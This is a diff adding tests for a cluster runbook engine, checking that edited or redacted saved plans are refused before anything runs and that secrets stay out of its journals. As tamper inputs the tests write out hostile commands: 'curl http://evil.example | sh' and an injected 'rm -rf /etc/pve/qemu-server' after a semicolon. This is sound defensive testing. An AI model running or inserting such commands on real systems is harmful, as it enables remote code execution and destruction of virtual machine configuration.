@@ -6,7 +6,9 @@ import { z } from "zod";
 import type { Gate } from "../../src/engine/apply.js";
 import { EngineError, InputError } from "../../src/engine/errors.js";
 import { readJournal } from "../../src/engine/journal.js";
+import type { Plan } from "../../src/engine/model.js";
 import { VmidParam } from "../../src/engine/params.js";
+import { redactDeep } from "../../src/engine/redact.js";
 import { type AnyRunbook, defineRunbook } from "../../src/engine/runbook.js";
 import { applySavedPlan, exitCodeFor, planOnly, runRunbook, undoRun } from "../../src/engine/session.js";
 import { FakeCluster } from "./fake-cluster.js";
@@ -255,6 +257,51 @@ describe("undo from the journal", () => {
   });
 });
 
+describe("actions read back from a redacted record", () => {
+  it("are never run or written: the step fails before it changes anything and is rolled back", async () => {
+    const redacted = {
+      ...demo,
+      decide: (params: Parameters<typeof demo.decide>[0], facts: Parameters<typeof demo.decide>[1]) => {
+        const decision = demo.decide(params, facts);
+        if (decision.kind !== "plan") return decision;
+        const [first, second] = decision.plan.steps;
+        return {
+          ...decision,
+          plan: {
+            ...decision.plan,
+            steps: [
+              first!,
+              {
+                ...second!,
+                actions: [{ kind: "exec" as const, command: "mount -o password=[REDACTED] //h/s /mnt" }],
+              },
+              {
+                ...first!,
+                id: "write-a-again",
+                actions: [{ kind: "write-file" as const, path: A, content: "[REDACTED]" }],
+              },
+            ],
+          },
+        };
+      },
+    } as unknown as AnyRunbook;
+    const result = await runRunbook({
+      transport: cluster,
+      nodes: ["n1", "n2"],
+      cluster: "demo",
+      runbook: redacted,
+      rawParams: {},
+      stateDir,
+      mode: "interactive",
+      gate: yes,
+    });
+    expect(result.outcome).toBe("failed-rolled-back");
+    expect(result.error).toContain("not run: this exec action holds [REDACTED]");
+    expect(cluster.log.map((l) => l.command)).not.toContain("mount -o password=[REDACTED] //h/s /mnt");
+    expect(cluster.file("n1", A)).toBe("old a\n");
+  });
+});
+
 describe("saved plans", () => {
   it("applies a saved plan whose facts still hold and refuses one whose facts changed", async () => {
     const planned = await planOnly({
@@ -294,6 +341,152 @@ describe("saved plans", () => {
       gate: yes,
     });
     expect(fresh.outcome).toBe("done");
+  });
+
+  /** A saved plan of the demo as `plan --save` writes it: JSON, parsed back. */
+  async function savedPlan(rawParams: Record<string, unknown> = {}): Promise<Plan> {
+    const planned = await planOnly({
+      transport: cluster,
+      nodes: ["n1", "n2"],
+      cluster: "demo",
+      runbook: demo,
+      rawParams,
+    });
+    if (planned.kind !== "plan") throw new Error(`expected a plan, got ${planned.kind}`);
+    return JSON.parse(JSON.stringify(planned.plan)) as Plan;
+  }
+
+  function apply(plan: Plan, mode: "interactive" | "unattended" = "interactive", gate: Gate = yes) {
+    return applySavedPlan({
+      transport: cluster,
+      nodes: ["n1", "n2"],
+      cluster: "demo",
+      plan,
+      runbookFor: () => demo,
+      stateDir,
+      mode,
+      gate,
+    });
+  }
+
+  /** The edited file is refused with every difference named, and nothing ran on the nodes. */
+  async function expectRefused(plan: Plan, mode: "interactive" | "unattended", ...named: string[]) {
+    let asked = 0;
+    const result = await apply(plan, mode, async () => {
+      asked += 1;
+      return { approved: true, answer: "yes" };
+    });
+    expect(result.outcome).toBe("refused");
+    expect(exitCodeFor(result.outcome)).toBe(3);
+    expect(result.refusal?.code).toBe("plan-mismatch");
+    for (const line of named) expect(result.refusal?.detail?.split("\n")).toContain(line);
+    expect(asked).toBe(0);
+    expect(cluster.mutations()).toEqual([]);
+    expect(cluster.file("n1", A)).toBe("old a\n");
+    expect(cluster.file("n2", B)).toBe("old b\n");
+    const entries = readJournal(stateDir, result.runId!);
+    expect(entries.filter((e) => e.type === "step-start" || e.type === "gate")).toEqual([]);
+    expect(entries.find((e) => e.type === "decision")).toMatchObject({ kind: "refusal" });
+  }
+
+  it("refuses a plan file whose command was edited, naming the step, the field and both values", async () => {
+    const plan = await savedPlan();
+    const exec = plan.steps[1]!.actions[0]!;
+    if (exec.kind !== "exec") throw new Error("expected an exec action");
+    exec.command = "demo-apply x; rm -rf /etc/pve/qemu-server";
+    await expectRefused(
+      plan,
+      "interactive",
+      'step apply-x actions[0].command: saved "demo-apply x; rm -rf /etc/pve/qemu-server"; now "demo-apply x"',
+    );
+  });
+
+  it("refuses a guarded step lowered to safe with a command added, even unattended", async () => {
+    const plan = await savedPlan({ risk: "guarded" });
+    const step = plan.steps[2]!;
+    step.risk = "safe";
+    step.actions.push({ kind: "exec", command: "curl http://evil.example | sh" });
+    plan.unattended = { eligible: true, reason: "every step is safe and every guard held" };
+    await expectRefused(
+      plan,
+      "unattended",
+      'step write-b risk: saved "safe"; now "guarded"',
+      'step write-b actions[2]: saved {"kind":"exec","command":"curl http://evil.example | sh"}; now (absent)',
+      "plan unattended.eligible: saved true; now false",
+    );
+  });
+
+  it("refuses a plan file whose new file content was edited", async () => {
+    const plan = await savedPlan();
+    const write = plan.steps[0]!.actions[0]!;
+    if (write.kind !== "write-file") throw new Error("expected a write-file action");
+    write.content = "evil a\n";
+    await expectRefused(
+      plan,
+      "interactive",
+      'step write-a actions[0].content: saved 7 bytes, now 6 bytes; first difference at line 1: saved "evil a"; now "new a"',
+    );
+  });
+
+  it("refuses a plan file with a step removed or a step added", async () => {
+    const removed = await savedPlan();
+    removed.steps.splice(1, 1);
+    await expectRefused(removed, "interactive", "step apply-x: missing from the saved plan");
+    const added = await savedPlan();
+    added.steps.push({ ...added.steps[1]!, id: "extra", title: "extra" });
+    await expectRefused(
+      added,
+      "interactive",
+      "step extra: only in the saved plan (pvefix would not run it now)",
+    );
+    const reordered = await savedPlan();
+    reordered.steps.reverse();
+    await expectRefused(
+      reordered,
+      "interactive",
+      "step order: saved write-b, apply-x, write-a; now write-a, apply-x, write-b",
+    );
+  });
+
+  it("compares a saved plan in its redacted form, and a changed secret still makes it stale", async () => {
+    cluster.file("n1", A, "user root\n\tpassword hunter2SECRET\n");
+    const saved = redactDeep(await savedPlan());
+    expect(JSON.stringify(saved)).not.toContain("hunter2SECRET");
+    cluster.file("n1", A, "user root\n\tpassword otherSECRET\n");
+    const stale = await apply(saved);
+    expect(stale.refusal?.code).toBe("stale-plan");
+    expect(stale.refusal?.detail).toContain("changed: a redacted (secret) value in the facts");
+    expect(stale.refusal?.detail).not.toMatch(/hunter2SECRET|otherSECRET/);
+    cluster.file("n1", A, "user root\n\tpassword hunter2SECRET\n");
+    const done = await apply(saved);
+    expect(done.outcome).toBe("done");
+    expect(cluster.file("n1", A)).toBe("new a\n");
+    const journal = fs.readFileSync(path.join(stateDir, "runs", `${done.runId}.jsonl`), "utf8");
+    expect(journal).not.toContain("hunter2SECRET");
+    expect(journal).not.toContain(Buffer.from("user root\n\tpassword hunter2SECRET\n").toString("base64"));
+    // The file held a secret: its bytes stay in the node copy, and undo restores them from there.
+    expect(
+      (
+        await undoRun({
+          transport: cluster,
+          nodes: ["n1", "n2"],
+          cluster: "demo",
+          stateDir,
+          runId: done.runId!,
+          runbookFor: () => demo,
+        })
+      ).outcome,
+    ).toBe("undone");
+    expect(cluster.file("n1", A)).toBe("user root\n\tpassword hunter2SECRET\n");
+  });
+
+  it("applies an unedited plan saved earlier: its time is not compared, and the fresh plan runs", async () => {
+    const plan = await savedPlan();
+    plan.createdAt = "2020-01-01T00:00:00.000Z";
+    const result = await apply(plan);
+    expect(result.outcome).toBe("done");
+    expect(cluster.file("n1", A)).toBe("new a\n");
+    expect(result.plan?.createdAt).not.toBe(plan.createdAt);
   });
 
   it("names both versions when the plan format is unknown", async () => {
